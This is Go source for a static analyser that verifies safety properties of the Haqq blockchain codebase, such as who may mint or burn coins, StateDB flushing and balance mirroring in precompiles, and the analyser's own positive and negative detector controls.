				continue
			}
			head := string(b)
			if i := strings.Index(head, "\npackage "); i >= 0 {
				head = head[:i]
			}
			if strings.Contains(head, "//go:build") || strings.Contains(head, "// +build") {
				key := filepath.ToSlash(filepath.Join(rel, f))
				nConstrained++
				_, ok := allowed[key]
				r.Check(ok, "CFG", "constrained-file/"+key, key, "tabled: "+allowed[key], "a non-test Go file carries a build constraint: the analysed configuration is not the only one for this code")
			}
		}
	}
	r.Rule("CFG", "thorough: no non-test Haqq file is excluded from or conditionally included in the default build (except tabled rpc/test files), and the same rules hold under -tags netgo,ledger")
	r.Count("thorough: Go files checked for build constraints", nFiles)
	r.Count("thorough: build-constrained files (all tabled)", nConstrained)
}
