package main

func runSelftest(repo, verif, prop, mutant string, verbose bool) int { return 0 }

func thoroughExtras(r *Run, pd *propDef, repo, verif string) {}
