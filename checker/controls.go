package main

import (
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// Positive controls for the expected-zero detectors of C01 (DESIGN §2.3). The control package
// /verif/checker/testdata/controls carries one function per construct; the very same detector
// functions that decide C01 on /repo are run over it and must produce exactly the statuses below.
// A mismatch is an analyser failure (exit 2), never a verdict on Haqq.
var controlExpect = []struct {
	rule, keyPart, status string
}{
	{"R1", "CtlMapRangeUnsorted#range-", "violated"},
	{"R1", "CtlMapRangeFirstWins#range-", "violated"},
	{"R1", "CtlMapRangeSorted#range-", "discharged"},
	{"R1", "CtlMapRangeToMap#range-", "discharged"},
	{"R1", "CtlMapRangeSortedByPrefix#range-", "violated"},
	{"R1", "CtlMapRangeSortedWhole#range-", "discharged"},
	{"R2", "CtlClock#time.Now", "violated"},
	{"R2", "CtlRand#math/rand.Int", "violated"},
	{"R2", "CtlNumCPU#runtime.NumCPU", "violated"},
	{"R2", "CtlEnv#os.Getenv", "violated"},
	{"R3", "CtlGo#go-statement", "violated"},
	{"R3", "CtlChan#channel-send", "violated"},
	{"R3", "CtlChan#channel-receive", "violated"},
	{"R3", "CtlMutex#sync.Mutex.Lock", "violated"},
	{"R4", "CtlGlobalWrite#write-verifcontrols.counter", "violated"},
	{"R4", "CtlGlobalWrite#write-verifcontrols.registry", "violated"},
	{"R4", "CtlGlobalMapDelete#write-verifcontrols.registry", "violated"},
	{"R4", "CtlGlobalMapPassed#write-verifcontrols.registryInts", "violated"},
	{"R6", "CtlFloat#float-", "violated"},
	{"R11", "CtlLocalTimeYear#local-time-Year", "violated"},
	{"R11", "CtlLocalTimeFormat#local-time-Format", "violated"},
	{"R12", "CtlSharedNumberMutated#mutates-shared-number", "violated"},
	{"R12", "ctlPrefixRoomy#appended-prefix", "violated"},
	{"R12", "ctlPrefixTight#appended-prefix", "discharged"},
}

func runDetControls(r *Run) {
	dir := controlsDir(r)
	P2, err := LoadRepo(dir, nil, "")
	if err != nil {
		r.Fail("positive controls: cannot load %s: %v", dir, err)
		return
	}
	if len(P2.Funcs) < 15 {
		r.Fail("positive controls: only %d functions loaded from %s", len(P2.Funcs), dir)
		return
	}
	r2 := NewRun("C01", "control", P2, r.VerifDir)
	g := NewGraph(P2)
	roots := map[*ssa.Function]string{}
	for _, fn := range P2.Funcs {
		roots[fn] = "control"
	}
	rs := g.Reach(roots, nil)
	sc := &Scopes{G: g, S: rs, K: g.Reach(map[*ssa.Function]string{}, nil), Roots: roots}
	S := rs.HaqqFuncs()
	inScope := map[*ssa.Function]string{}
	for _, f := range S {
		inScope[f] = "S"
	}
	detMapRange(r2, sc, inScope)
	detForbiddenCalls(r2, sc, S)
	detConcurrency(r2, sc, S)
	detGlobalWrites(r2, sc, S)
	detFloat(r2, sc, S)
	detLocalTime(r2, sc, S)
	detSharedAliasWrites(r2, sc, S, "R12")
	nOK := 0
	for _, e := range controlExpect {
		found := ""
		for _, o := range r2.Obls {
			if o.Rule == e.rule && strings.Contains(o.Key, e.keyPart) {
				found = o.Status
				if found == e.status {
					break
				}
			}
		}
		if found != e.status {
			r.Fail("positive control silent: detector %s on control %q gave %q, expected %q — the detector no longer recognises its construct", e.rule, e.keyPart, found, e.status)
		} else {
			nOK++
		}
	}
	// the clean control must carry no violated obligation
	var noisy []string
	for _, o := range r2.Obls {
		if o.Status == "violated" && (strings.Contains(o.Key, "CtlClean") || strings.Contains(o.Key, "CtlUTCTimeYear") || strings.Contains(o.Key, "CtlTimestampOnly") || strings.Contains(o.Key, "CtlFreshNumberMutated")) {
			noisy = append(noisy, o.Key)
		}
	}
	sort.Strings(noisy)
	if len(noisy) > 0 {
		r.Fail("negative control fired: %v", noisy)
	}
	r.Count("positive controls matched (detector × construct)", nOK)
	r.Note(fmt.Sprintf("positive controls: %d detector×construct pairs of %s gave the expected status", nOK, dir))
}

var c20ControlExpect = []struct{ keyPart, status string }{
	{"CtlFieldWrite#writes-verifcontrols.Keeper", "violated"},
	{"CtlMapFieldWrite#writes-verifcontrols.Keeper.cache", "violated"},
	{"CtlSyncMapStore#Map.Store-on-verifcontrols.Keeper.seen", "violated"},
	{"CtlMapFieldDelete#delete-on-verifcontrols.Keeper.cache", "violated"},
	{"CtlMapFieldPassed#passes-verifcontrols.Keeper.cache-to-ctlFill", "violated"},
}

// runC20Controls: the process-local-write detector (C20 R1) over the control package.
func runC20Controls(r *Run) {
	dir := controlsDir(r)
	P2, err := LoadRepo(dir, nil, "")
	if err != nil {
		r.Fail("positive controls: cannot load %s: %v", dir, err)
		return
	}
	r2 := NewRun("C20", "control", P2, r.VerifDir)
	g := NewGraph(P2)
	roots := map[*ssa.Function]string{}
	for _, fn := range P2.Funcs {
		roots[fn] = "control"
	}
	sc := &Scopes{G: g, S: g.Reach(roots, nil), K: g.Reach(map[*ssa.Function]string{}, nil), Roots: roots}
	detProcessLocalWrites(r2, sc)
	nOK := 0
	for _, e := range c20ControlExpect {
		found := ""
		for _, o := range r2.Obls {
			if strings.Contains(o.Key, e.keyPart) {
				found = o.Status
			}
		}
		if found != e.status {
			r.Fail("positive control silent: C20 R1 on control %q gave %q, expected %q", e.keyPart, found, e.status)
		} else {
			nOK++
		}
	}
	for _, o := range r2.Obls {
		if o.Status == "violated" && (strings.Contains(o.Key, "CtlLocalCopy") || strings.Contains(o.Key, "CtlClean") || strings.Contains(o.Key, "CtlLocalMapPassed")) {
			r.Fail("negative control fired: %s", o.Key)
		}
	}
	r.Count("positive controls matched (C20 R1)", nOK)
}

// controlsDir: the control package lives next to the analyser's sources. The verif directory given
// on the command line may be a scratch one (selftest, nested thorough runs), so the location is
// derived from the executable (<verif>/bin/haqqcheck → <verif>/checker/testdata/controls) first.
func controlsDir(r *Run) string {
	if exe, err := os.Executable(); err == nil {
		d := filepath.Join(filepath.Dir(exe), "..", "checker", "testdata", "controls")
		if _, err := os.Stat(filepath.Join(d, "go.mod")); err == nil {
			return d
		}
	}
	return filepath.Join(r.VerifDir, "checker", "testdata", "controls")
}
