package main

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/constant"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID:  "C02",
		Run: runC02,
		Explanation: "Static analysis of the mechanisms that keep EVM execution from minting or burning: (R1) only Keeper.SetBalance mints/burns for the evm module account and only StateDB.Commit (through SetAccount/DeleteAccount) reaches it from consensus code; " +
			"(R2) every stateful precompile flushes the StateDB (error-checked Commit) before any handler runs; (R3) the premise that Commit writes every dirty account's cached balance and SetBalance mints/burns the difference to the bank balance, with mint→send and send→burn pairing; " +
			"(R4) every precompile handler that can move an account's bank balance writes the change back into the StateDB on every success path on which the caller is not the signer (otherwise the final Commit overwrites the bank change with the stale cached balance: mint or burn); " +
			"(R5) wired precompile addresses = AvailableEVMExtensions = the bech32 list that BlockedAddrs blocks.",
		Assumptions: []string{"frozen effects table of which SDK msg-server methods move bank balances (cosmos-sdk v0.47.12-evmos.2, ibc-go v7.4.0; checked against go.mod on every run)", "geth interpreter moves value only through StateDB.AddBalance/SubBalance"},
		Declined:    []string{"the exact per-account balance equation and correctness of mirrored amounts/addresses"},
		Thorough:    wholeProgramEffects,
	})
}

// ---------- shared: mint/burn call sites ----------

type mintBurnSite struct {
	Fn     *ssa.Function
	Call   ssa.CallInstruction
	Kind   string // MintCoins | BurnCoins
	Module string // constant module name or ""
	Const  bool
}

func mintBurnSites(P *Prog) []mintBurnSite {
	var out []mintBurnSite
	for _, fn := range P.Funcs {
		if isTestSupport(P, fn) || fn.Synthetic != "" {
			continue
		}
		if isGeneratedFile(P.FileOf(fnPos(outermost(fn)))) {
			continue
		}
		eachCall(fn, func(ci CallInfo) {
			if (ci.Name != "MintCoins" && ci.Name != "BurnCoins") || ci.Obj == nil || ci.Recv == "" {
				return
			}
			sig := ci.Instr.Common().Signature()
			if sig.Params().Len() != 3 {
				return
			}
			s, ok := constString(argN(ci.Instr, 1))
			out = append(out, mintBurnSite{Fn: fn, Call: ci.Instr, Kind: ci.Name, Module: s, Const: ok})
		})
	}
	return out
}

// checkMintBurnOwnership: every Mint/Burn for `module` happens in one of allowed (outermost fn IDs);
// non-constant module names are reported unless the enclosing function is in passThrough (wrappers
// that forward their own parameter, e.g. keeper.MintCoins(ctx, coin) helpers or the bank override).
// confirmedMintBurn: module account → function → kind → number of call sites confirmed by reading.
// Authority is per (function, kind): a function confirmed as a burn site is not thereby allowed to mint,
// and a second call of a confirmed kind in the same function is a new site.
var confirmedMintBurn = map[string]map[string]map[string]int{
	"evm": {
		"(*x/evm/keeper.Keeper).SetBalance": {"MintCoins": 1, "BurnCoins": 1},
	},
	"erc20": {
		"(x/erc20/keeper.Keeper).convertERC20NativeToken": {"MintCoins": 1},
		"(x/erc20/keeper.Keeper).convertCoinNativeERC20":  {"BurnCoins": 1},
		"(x/erc20/keeper.Keeper).PostTxProcessing":        {"MintCoins": 1},
	},
	"liquidvesting": {
		"(x/liquidvesting/keeper.Keeper).Liquidate": {"MintCoins": 1},
		"(x/liquidvesting/keeper.Keeper).Redeem":    {"BurnCoins": 1},
	},
	"coinomics": {
		"(x/coinomics/keeper.Keeper).MintCoins": {"MintCoins": 1},
	},
}

func checkMintBurnOwnership(r *Run, rule, module string, allowed map[string]string, floor int) {
	P := r.P
	n := 0
	seen := map[string]int{}
	for _, s := range mintBurnSites(P) {
		owner := fnID(outermost(s.Fn))
		if !s.Const {
			if _, ok := mintBurnPassThrough[owner]; ok {
				continue
			}
			r.Bad(rule, owner+"#"+s.Kind+"/non-constant-module", P.Pos(instrPos(s.Call)), s.Kind+" with a module name that is not a compile-time constant: the minting authority cannot be decided statically")
			continue
		}
		if s.Module != module {
			continue
		}
		n++
		inst := owner + "#" + s.Kind + "/" + module
		seen[inst]++
		want := confirmedMintBurn[module][owner][s.Kind]
		switch {
		case want == 0:
			r.Bad(rule, inst, P.Pos(instrPos(s.Call)), fmt.Sprintf("%s for module account %q in %s, which is not a confirmed %s site of that account (confirmed: %s)", s.Kind, module, owner, s.Kind, confirmedSites(module)))
		case seen[inst] > want:
			r.Bad(rule, inst, P.Pos(instrPos(s.Call)), fmt.Sprintf("%s for module account %q: %s contains %d such call sites, %d confirmed — an additional site", s.Kind, module, owner, seen[inst], want))
		default:
			r.OK(rule, inst, P.Pos(instrPos(s.Call)), "confirmed site: "+allowed[owner])
		}
	}
	r.Floor(rule, "mint/burn sites for module "+module, n, floor)
}

func confirmedSites(module string) string {
	var out []string
	for fn, kinds := range confirmedMintBurn[module] {
		for k := range kinds {
			out = append(out, fn+":"+k)
		}
	}
	sort.Strings(out)
	return strings.Join(out, ", ")
}

// functions that legitimately pass a module name through (the name is their own parameter)
var mintBurnPassThrough = map[string]string{
	"(x/bank/keeper.BaseKeeper).BurnCoins": "C14 override forwards moduleName to the embedded keeper",
}

func sortedKeysS(m map[string]string) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// ---------- bech32 ----------

const bech32Charset = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"

func bech32DecodeToHex(s string) (hrp string, hexAddr string, err error) {
	i := strings.LastIndex(s, "1")
	if i < 1 || i+7 > len(s) {
		return "", "", fmt.Errorf("not bech32")
	}
	hrp = s[:i]
	data := s[i+1:]
	var vals []byte
	for _, c := range data {
		p := strings.IndexRune(bech32Charset, c)
		if p < 0 {
			return "", "", fmt.Errorf("bad char")
		}
		vals = append(vals, byte(p))
	}
	vals = vals[:len(vals)-6] // checksum (not verified: SDK verifies at startup; we only need the payload)
	acc, bits := 0, 0
	var out []byte
	for _, v := range vals {
		acc = acc<<5 | int(v)
		bits += 5
		for bits >= 8 {
			bits -= 8
			out = append(out, byte(acc>>bits))
			acc &= (1 << bits) - 1
		}
	}
	return hrp, fmt.Sprintf("0x%x", out), nil
}

// stringSliceVar evaluates a package-level `var X = []string{...}` whose elements are constants.
func stringSliceVar(P *Prog, pkgPath, name string) ([]string, bool) {
	pk := P.PkgBy[pkgPath]
	if pk == nil {
		return nil, false
	}
	var out []string
	found := false
	for _, f := range pk.Syntax {
		ast.Inspect(f, func(n ast.Node) bool {
			vs, ok := n.(*ast.ValueSpec)
			if !ok {
				return true
			}
			for i, id := range vs.Names {
				if id.Name != name || i >= len(vs.Values) {
					continue
				}
				cl, ok := vs.Values[i].(*ast.CompositeLit)
				if !ok {
					continue
				}
				found = true
				for _, e := range cl.Elts {
					tv, ok := pk.TypesInfo.Types[e]
					if ok && tv.Value != nil && tv.Value.Kind() == constant.String {
						out = append(out, constant.StringVal(tv.Value))
					} else {
						found = false
					}
				}
			}
			return true
		})
	}
	return out, found
}

func runC02(r *Run) {
	P := r.P
	r.Rule("R1", "OWN.evm-mint: MintCoins/BurnCoins(…,\"evm\",…) only in (*x/evm/keeper.Keeper).SetBalance; SetBalance ← {SetAccount, DeleteAccount}; in consensus scope SetAccount/DeleteAccount (static or through statedb.Keeper / erc20 EVMKeeper interfaces) ← {StateDB.Commit}")
	r.Rule("R2", "PATH.flush-before-dispatch: in Run of every wired stateful precompile an error-checked stateDB.Commit() precedes every handler call")
	r.Rule("R3", "premise+pairing: StateDB.Commit hands the cached account of every dirty object to SetAccount; SetBalance mints amount−bankBalance then sends it to the account, or collects balance−amount from the account then burns it — the same coins value in each pair, on every success path")
	r.Rule("R4", "PATH.mirror: for every tx handler with a bank-moving Cosmos effect, after deleting the edges on which contract.CallerAddress == origin, no success exit is reachable after the effect without a StateDB balance write (AddBalance/SubBalance/SetBalance)")
	r.Rule("R5", "TABLE.precompile-addresses: {Address() constants of wired precompiles} = AvailableEVMExtensions = decoded DefaultPrecompilesBech32, and BlockedAddrs inserts that list")

	// dependency versions the effects table was confirmed against
	checkDepVersions(r)

	// ---------- R1 ----------
	evmMod, _ := P.constOf(haqqMod+"/x/evm/types", "ModuleName")
	checkMintBurnOwnership(r, "R1", evmMod, map[string]string{"(*x/evm/keeper.Keeper).SetBalance": "balance delta on StateDB commit"}, 2)
	sc := scopesOf(r)
	setBal, ok1 := P.FnOK("(*x/evm/keeper.Keeper).SetBalance")
	setAcc, ok2 := P.FnOK("(*x/evm/keeper.Keeper).SetAccount")
	delAcc, ok3 := P.FnOK("(*x/evm/keeper.Keeper).DeleteAccount")
	if !ok1 || !ok2 || !ok3 {
		r.Bad("R1", "anchor/evm-keeper-balance-writers", "", "SetBalance/SetAccount/DeleteAccount of the EVM keeper not found")
	} else {
		nCallers := 0
		for _, fn := range P.Funcs {
			if isTestSupport(P, fn) || fn.Synthetic != "" {
				continue
			}
			owner := outermost(fn)
			eachCall(fn, func(ci CallInfo) {
				var target string
				switch {
				case ci.Static == setBal:
					target = "SetBalance"
				case ci.Static == setAcc || ci.Static == delAcc:
					target = ci.Name
				case ci.Invoke && (ci.Name == "SetAccount" || ci.Name == "DeleteAccount") && len(ci.Instr.Common().Args) >= 2 && namedName(ci.Instr.Common().Args[1].Type()) == "Address":
					// interface dispatch that the EVM keeper implements (statedb.Keeper, erc20 EVMKeeper)
					target = ci.Name + " (via " + ci.Recv + ")"
				default:
					return
				}
				nCallers++
				inst := fnID(owner) + "#" + strings.Fields(target)[0]
				where := P.Pos(instrPos(ci.Instr))
				switch {
				case target == "SetBalance":
					r.Check(owner == setAcc || owner == delAcc, "R1", inst, where, "SetBalance called from SetAccount/DeleteAccount", "SetBalance (mint/burn of the EVM denom) is called from "+fnID(owner))
				case fnID(owner) == "(*x/evm/statedb.StateDB).Commit" || fnID(owner) == "(*x/evm/statedb.StateDB).commit":
					r.OK("R1", inst, where, "StateDB.Commit")
				case !sc.S.Has(fn):
					r.OK("R1", inst, where, "caller is outside consensus scope (query/simulation/dead code)")
				case writesDiscardedCacheCtx(ci.Instr):
					r.OK("R1", inst, where, "writes into a ctx.CacheContext() whose write function is dropped: the change can never reach committed state")
				default:
					r.Bad("R1", inst, where, "consensus-reachable code other than StateDB.Commit writes an EVM account balance into the bank (mint/burn of the difference)", sc.S.Chain(fn)...)
				}
			})
		}
		r.Floor("R1", "callers of SetBalance/SetAccount/DeleteAccount", nCallers, 4)
	}

	// ---------- R2 ----------
	models := wiredPrecompiles(r)
	nStateful := 0
	for _, m := range models {
		if !m.Stateful {
			continue
		}
		nStateful++
		isCommit := isCallMatching(func(ci CallInfo) bool {
			return isFlushCall(ci) && errHandled(ci.Instr)
		})
		isHandler := func(in ssa.Instruction) bool {
			for _, h := range m.Handlers {
				if h.Call != nil && ssa.Instruction(h.Call) == in {
					return true
				}
			}
			return false
		}
		w := Precedes(m.Run, isCommit, isHandler, nil)
		r.Check(w == nil, "R2", fnID(m.Run)+"#flush-before-dispatch", P.Pos(fnPos(m.Run)), fmt.Sprintf("stateDB.Commit() precedes all %d handler calls", len(m.Handlers)),
			"a handler is reachable in Run without a preceding error-checked stateDB.Commit(): Cosmos-side code would see bank balances that miss the EVM's pending changes", P.witness(w)...)
	}
	r.Floor("R2", "wired stateful precompiles", nStateful, 4)

	// ---------- R3 ----------
	if commit, ok := commitBodyFn(P); ok {
		n := 0
		eachCall(commit, func(ci CallInfo) {
			if ci.Name == "SetAccount" && ci.Invoke {
				n++
				sl := backSlice(argN(ci.Instr, 2))
				okAcc := sl.HasField("stateObject", "account")
				okDirty := backSlice(argN(ci.Instr, 1)).HasCall(func(c CallInfo) bool { return c.Name == "sortedDirties" }) || sl.HasCall(func(c CallInfo) bool { return c.Name == "sortedDirties" })
				r.Check(okAcc && okDirty && errHandled(ci.Instr), "R3", commitInstID+"#writes-cached-account", P.Pos(instrPos(ci.Instr)), "Commit passes each dirty object's cached account to SetAccount",
					"premise changed: StateDB.Commit no longer hands the cached account of every journal-dirty object to Keeper.SetAccount; rule R4 is not meaningful on this tree")
			}
		})
		r.Floor("R3", "SetAccount calls in StateDB.Commit", n, 1)
		// every dirty object is written: from the lookup of the dirty object no path reaches the next
		// iteration or a success return without SetAccount/DeleteAccount
		var lookups []ssa.Instruction
		eachInstr(commit, func(in ssa.Instruction) {
			if l, ok := in.(*ssa.Lookup); ok {
				if _, f, ok := fieldOfAddr(addrOfLoad(l.X)); ok && f == "stateObjects" {
					lookups = append(lookups, in)
				}
			}
		})
		r.Floor("R3", "dirty-object lookups in StateDB.Commit", len(lookups), 1)
		isWrite := isCallMatching(func(ci CallInfo) bool {
			return ci.Invoke && (ci.Name == "SetAccount" || ci.Name == "DeleteAccount") && errHandled(ci.Instr)
		})
		for i, l := range lookups {
			lb := l.Block()
			w := PathQuery{Fn: commit, Start: l, Block: isWrite, Target: func(in ssa.Instruction) bool {
				if isSuccessExit(in) {
					return true
				}
				// back at the loop head (a block that dominates the lookup and is reached again)
				b := in.Block()
				return in == b.Instrs[0] && b != lb && dominates(b, lb) && len(b.Preds) > 1
			}}.Search()
			r.Check(w == nil, "R3", fmt.Sprintf("%s#every-dirty-account-written-%d", commitInstID, i+1), P.Pos(instrPos(l)), "each dirty object reaches SetAccount or DeleteAccount",
				"StateDB.Commit can skip a journal-dirty account (no SetAccount/DeleteAccount on some path): because precompiles flush with Commit in the middle of a transaction, a skipped write leaves the bank balance out of sync with the EVM view and the difference is minted or burned later", P.witness(w)...)
		}
	} else {
		r.Bad("R3", "anchor/StateDB.Commit", "", "StateDB.Commit not found")
	}
	// a zero-amount AddBalance/SubBalance journals nothing: this is why a plain call (value 0) into a
	// precompile or a contract leaves the callee's account out of the dirty set, and with it why the
	// Cosmos-side change made under the StateDB is not overwritten at Commit.
	{
		appenders := journalAppenders(P)
		r.Floor("R3", "statedb functions that append to the journal", len(appenders), 8)
		for _, name := range []string{"AddBalance", "SubBalance"} {
			fn, ok := P.FnOK("(*x/evm/statedb.stateObject)." + name)
			if !ok {
				r.Bad("R3", "anchor/stateObject."+name, "", "not found")
				continue
			}
			_, ne := condEdges(fn, func(x, y ssa.Value) bool {
				for _, pr := range [][2]ssa.Value{{x, y}, {y, x}} {
					if c, ok := callNamed(pr[0], "Sign"); ok && isParam(c.Call.Args[0], "amount") {
						if n, ok := constInt(pr[1]); ok && n == 0 {
							return true
						}
					}
				}
				return false
			})
			isJ := isCallMatching(func(ci CallInfo) bool { return ci.Static != nil && appenders[ci.Static] })
			w := PathQuery{Fn: fn, Target: isJ, DelEdge: edgeSet(ne)}.Search()
			r.Check(len(ne) > 0 && w == nil, "R3", fnID(fn)+"#zero-amount-journals-nothing", P.Pos(fnPos(fn)), "journal-appending calls are reachable only when amount.Sign() != 0",
				"stateObject."+name+" can append to the journal (mark the account dirty) for a zero amount: a value-0 call then puts the callee — e.g. a module account whose bank balance a precompile changes under the StateDB — into the dirty set, and the final Commit overwrites its bank balance with the stale cached one (the difference is minted or burned)", P.witness(w)...)
		}
	}
	if ok2 {
		isSB := isCallMatching(func(ci CallInfo) bool {
			return ci.Static == setBal && errHandled(ci.Instr) && isParam(argN(ci.Instr, 1), "addr") && backSlice(argN(ci.Instr, 2)).HasParam("account")
		})
		w := Precedes(setAcc, isSB, isSuccessExit, nil)
		r.Check(w == nil, "R3", fnID(setAcc)+"#always-sets-balance", P.Pos(fnPos(setAcc)), "SetAccount writes the balance on every success path",
			"Keeper.SetAccount can return success without SetBalance(ctx, addr, account.Balance): the EVM-side balance change of that account never reaches the bank (value is created or destroyed)", P.witness(w)...)
	}
	if ok1 {
		fn := setBal
		var mint, burn, sendTo, sendFrom []ssa.CallInstruction
		eachCall(fn, func(ci CallInfo) {
			switch ci.Name {
			case "MintCoins":
				mint = append(mint, ci.Instr)
			case "BurnCoins":
				burn = append(burn, ci.Instr)
			case "SendCoinsFromModuleToAccount":
				sendTo = append(sendTo, ci.Instr)
			case "SendCoinsFromAccountToModule":
				sendFrom = append(sendFrom, ci.Instr)
			}
		})
		for i, mc := range mint {
			sl := backSlice(argN(mc, 2))
			dep := sl.HasParam("amount") && sl.HasCall(func(c CallInfo) bool { return c.Name == "GetBalance" })
			r.Check(dep, "R3", fmt.Sprintf("%s#mint-%d/delta", fnID(fn), i+1), P.Pos(instrPos(mc)), "minted coins = f(amount, bank GetBalance)", "the minted amount does not depend on both the requested balance and the current bank balance")
			isPair := func(in ssa.Instruction) bool {
				for _, s := range sendTo {
					if ssa.Instruction(s) == in && stripValue(argN(s, 3)) == stripValue(argN(mc, 2)) && errHandled(s) {
						if sm, ok := constString(argN(s, 1)); ok && sm == evmMod {
							return true
						}
					}
				}
				return false
			}
			w := Follows(fn, mc, isPair, nil)
			r.Check(w == nil && errHandled(mc), "R3", fmt.Sprintf("%s#mint-%d/paired-send", fnID(fn), i+1), P.Pos(instrPos(mc)), "minted coins are sent to the account on every success path", "after MintCoins a success exit is reachable without sending the same coins from the evm module account to the account", P.witness(w)...)
		}
		for i, bc := range burn {
			sl := backSlice(argN(bc, 2))
			dep := sl.HasParam("amount") && sl.HasCall(func(c CallInfo) bool { return c.Name == "GetBalance" })
			r.Check(dep, "R3", fmt.Sprintf("%s#burn-%d/delta", fnID(fn), i+1), P.Pos(instrPos(bc)), "burned coins = f(amount, bank GetBalance)", "the burned amount does not depend on both the requested balance and the current bank balance")
			isPair := func(in ssa.Instruction) bool {
				for _, s := range sendFrom {
					if ssa.Instruction(s) == in && stripValue(argN(s, 3)) == stripValue(argN(bc, 2)) && errHandled(s) {
						if sm, ok := constString(argN(s, 2)); ok && sm == evmMod {
							return true
						}
					}
				}
				return false
			}
			w := Precedes(fn, isPair, func(in ssa.Instruction) bool { return in == ssa.Instruction(bc) }, nil)
			r.Check(w == nil && errHandled(bc), "R3", fmt.Sprintf("%s#burn-%d/paired-send", fnID(fn), i+1), P.Pos(instrPos(bc)), "burned coins were collected from the account first", "BurnCoins is reachable without first moving the same coins from the account into the evm module account", P.witness(w)...)
		}
		r.Floor("R3", "mint sites in SetBalance", len(mint), 1)
		r.Floor("R3", "burn sites in SetBalance", len(burn), 1)
	}

	// ---------- R4 ----------
	nMoving, nNonMoving := 0, 0
	for _, m := range models {
		if !m.Stateful {
			continue
		}
		for _, h := range m.Handlers {
			if h.Fn == nil {
				continue
			}
			sites := effectSites(h.Fn, 3, map[*ssa.Function]bool{})
			beq, _ := callerEqOriginEdges(h.Fn)
			bdel := edgeSet(beq)
			isMirror := isCallMatching(isStateDBBalanceWrite)
			for i, s := range sites {
				why, moving := isBankMoving(s.Info)
				if !moving {
					// every Cosmos-side effect a handler performs is classified by reading the callee: either it can
					// move bank balances (table above) or it provably cannot (table below); an effect in neither
					// table has not been read and is reported instead of being assumed harmless
					en := effectName(s.Info)
					if _, ok := nonMovingEffects[en]; !ok {
						r.Bad("R4", fmt.Sprintf("%s#unclassified-effect/%s", fnID(h.Fn), en), P.Pos(instrPos(s.Call)),
							"precompile handler performs the Cosmos-side effect "+s.Info.String()+" which is in neither the bank-moving nor the non-moving table: whether it needs a StateDB mirror has not been established")
					} else {
						nNonMoving++
					}
					continue
				}
				if s.Call.Parent() != h.Fn {
					r.Bad("R4", fmt.Sprintf("%s#mirror/%s-%d", fnID(h.Fn), s.Info.Name, i+1), P.Pos(instrPos(s.Call)),
						"a bank-moving effect is performed inside a closure of the handler: the mirror obligation cannot be decided on the handler's own flow graph")
					continue
				}
				nMoving++
				call := s.Call
				inst := fmt.Sprintf("%s#mirror/%s-%d", fnID(h.Fn), s.Info.Name, i+1)
				where := P.Pos(instrPos(call))
				if !h.IsTx {
					r.Bad("R4", inst, where, "a handler that is not classified as a transaction performs a bank-moving Cosmos effect")
					continue
				}
				isEff := func(in ssa.Instruction) bool { return in == ssa.Instruction(call) }
				if (PathQuery{Fn: h.Fn, Target: isEff, DelEdge: bdel}).Search() == nil {
					r.OK("R4", inst, where, "effect unreachable with caller != origin (handler rejects contract callers): the journal is empty at a top-level call, nothing can be overwritten")
					continue
				}
				w := PathQuery{Fn: h.Fn, Start: call, Block: isMirror, Target: isSuccessExit, DelEdge: bdel}.Search()
				r.Check(w == nil, "R4", inst, where, "bank change mirrored into the StateDB on every success path with caller != origin",
					fmt.Sprintf("%s (%s) but with caller != origin a success exit is reachable without writing the change into the StateDB: if the affected account is journal-dirty (e.g. it sent value earlier in the tx) the final StateDB.Commit overwrites its bank balance with the stale cached one — the difference is minted or burned", s.Info.String(), why), P.witness(w)...)
			}
		}
	}
	r.Floor("R4", "bank-moving effect sites in precompile handlers", nMoving, 9)
	r.Rule("R4t", "PATH.mirror-targets: a StateDB balance write made by a precompile handler is a mirror (not a second credit/debit) only if the account's state object was loaded before the bank change — the frame's caller, the origin, or an address read through the StateDB before the Cosmos-side effect on every path")
	// mirror targets: a StateDB balance write made by a precompile handler is only a mirror (and not a second
	// credit/debit) if the account's state object was loaded BEFORE the bank change. That is guaranteed for
	// contract.CallerAddress (the frame's caller exists in the StateDB) and the origin (loaded when the message
	// started); any other address must be read through the StateDB before the Cosmos-side effect on every path.
	nMirror := 0
	for _, m := range models {
		if !m.Stateful {
			continue
		}
		for _, h := range m.Handlers {
			if h.Fn == nil {
				continue
			}
			sites := effectSites(h.Fn, 3, map[*ssa.Function]bool{})
			isEffect := func(in ssa.Instruction) bool {
				for _, s := range sites {
					if ssa.Instruction(s.Call) == in {
						return true
					}
				}
				return false
			}
			eachCall(h.Fn, func(ci CallInfo) {
				if !isStateDBBalanceWrite(ci) {
					return
				}
				nMirror++
				addr := argN(ci.Instr, 0)
				if ci.Invoke {
					addr = ci.Instr.Common().Args[0]
				} else {
					addr = ci.Instr.Common().Args[1]
				}
				inst := fmt.Sprintf("%s#mirror-target/%s-%d", fnID(h.Fn), ci.Name, nMirror)
				sl := backSlice(addr)
				known := sl.HasField("Contract", "CallerAddress") || sl.HasParam("origin") || sl.HasField("TxContext", "Origin")
				fromKeeper := sl.Any(func(v ssa.Value) bool {
					c, ok := v.(*ssa.Call)
					return ok && (callInfo(c).Recv == "Keeper" || strings.HasSuffix(callInfo(c).Recv, "Keeper"))
				})
				if known && !fromKeeper {
					r.OK("R4t", inst, P.Pos(instrPos(ci.Instr)), "mirrors the frame's caller / the origin (loaded before the bank change)")
					return
				}
				// otherwise: a StateDB read of the same address value must precede every effect
				same := stripValue(addr)
				isLoad := isCallMatching(func(g CallInfo) bool {
					if g.Recv != "StateDB" || !(g.Name == "GetBalance" || g.Name == "Exist" || g.Name == "Empty" || g.Name == "GetNonce" || g.Name == "GetCodeHash") {
						return false
					}
					a := g.Instr.Common().Args
					return len(a) > 0 && stripValue(a[len(a)-1]) == same
				})
				w := PathQuery{Fn: h.Fn, Block: isLoad, Target: isEffect}.Search()
				r.Check(w == nil && len(sites) > 0, "R4t", inst, P.Pos(instrPos(ci.Instr)), "the mirrored account is read through the StateDB before the Cosmos-side effect",
					"the handler writes a balance change into the StateDB for an account that is neither the frame's caller nor the origin and that was not loaded into the StateDB before the Cosmos-side change: the state object is created after the bank change, already contains it, and the mirror adds it a second time — the final Commit mints (or burns) the difference", P.witness(w)...)
			})
		}
	}
	r.Floor("R4t", "StateDB balance mirrors in precompile handlers", nMirror, 3)
